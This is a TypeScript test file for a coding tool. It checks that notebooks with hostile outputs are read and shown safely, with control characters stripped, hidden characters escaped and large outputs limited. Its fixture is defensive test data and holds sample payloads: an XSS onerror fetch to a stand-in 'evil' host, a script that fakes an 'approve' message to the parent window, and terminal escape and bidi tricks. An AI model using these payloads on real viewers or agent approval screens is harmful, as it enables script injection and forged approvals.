import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { NotebookEdit } from '#base/nativeEdit.ts';
import { hiddenCharacters, visibleText } from '#base/visibleText.ts';
import { makeResult } from '#call/result.ts';
import { defaultProfile } from '#call/resultProfile.ts';
import { notebookAfter } from '#tools/edit/notebook.ts';
import { readFile } from '#tools/workspace/readFile.ts';
import { textRows } from '#ui/approvals/cardRows.ts';
import { pathOf } from '../../changes/queueSetUp.ts';
import { ToolRun } from '../workspace/toolRun.ts';

const hostile = {
  'text/html': '<img src=x onerror="fetch(`//evil`)"><script>parent.postMessage({type:"approve"})</script>',
  'application/javascript': 'alert(1)',
  'text/plain': 'a\u202eb\u200b\u{e0041}c \u001b[2J\u001b]8;;http://evil\u0007click',
};
const cell = (id: string, source: string, outputs: readonly object[] = []) => ({
  cell_type: 'code',
  id,
  metadata: { hidden: '\u2066name\u2069', __proto: '{{constructor}}' },
  source,
  outputs,
  execution_count: 1,
});
const notebook = (...cells: readonly object[]): string =>
  JSON.stringify({ cells, metadata: { title: '<b>\u202e</b>' }, nbformat: 4, nbformat_minor: 5 }, undefined, 1);
const output = (data: object): object => ({ output_type: 'display_data', data, metadata: {} });

describe('a notebook with hostile outputs', () => {
  const text = notebook(cell('one', '1', [output(hostile)]), cell('two', '2'));

  it('A24: is read as the text that it is, without a control character', async () => {
    const run = new ToolRun({ '/w/n.ipynb': `${text}\u001b[2J\u009b` });
    const data = await run.data(readFile, { path: 'n.ipynb' });
    const { content } = makeResult(data, readFile.render(data), { ...defaultProfile, structured: false });
    const told = content.map((part) => (part.type === 'text' ? part.text : '')).join('');
    expect(told).toContain('<script>');
    // oxlint-disable-next-line no-control-regex
    expect(told).not.toMatch(/[\u0000-\u0008\u000b\u000e-\u001f\u007f-\u009f]/);
  });

  it('A24: is read in part when an output has 10 MB, or refused with what to do', async () => {
    const large = notebook(cell('one', '1', [output({ 'text/plain': 'x'.repeat(10 * 1024 * 1024) })]));
    const run = new ToolRun({ '/w/n.ipynb': large });
    const refused = await run.data(readFile, { path: 'n.ipynb' }).then(
      (data) => JSON.stringify(data).length < 200_000,
      (error: unknown) => z.object({ code: z.literal('too_large'), hint: z.string().min(1) }).safeParse(error).success,
    );
    expect(refused).toBe(true);
  });

  it('A24: is drawn with every hidden character escaped, and no row of it is longer than a piece', () => {
    const { segments } = textRows(text + 'x'.repeat(1024 * 1024));
    for (const { row, start, end } of segments) {
      const shown = 'text' in row ? row.text.slice(start, end) : '';
      expect(shown.length).toBeLessThanOrEqual(4000);
      expect(
        hiddenCharacters(
          visibleText(shown)
            .map((part) => part.text)
            .join(''),
        ),
      ).toEqual([]);
    }
  });

  it('keeps the outputs of other cells as they are when one cell changes, and drops those of that cell', () => {
    const change: NotebookEdit = {
      kind: 'notebook',
      path: '/w/n.ipynb',
      mode: 'replace',
      cell: 'two',
      source: 'print()',
    };
    const after = notebookAfter(pathOf('n.ipynb'), text, change);
    expect(after).toContain(JSON.stringify(hostile['text/html']).slice(1, -1));
    expect(JSON.parse(after).cells[0]).toEqual(JSON.parse(text).cells[0]);
    expect(JSON.parse(notebookAfter(pathOf('n.ipynb'), text, { ...change, cell: 'one' })).cells[0].outputs).toEqual([]);
  });
});
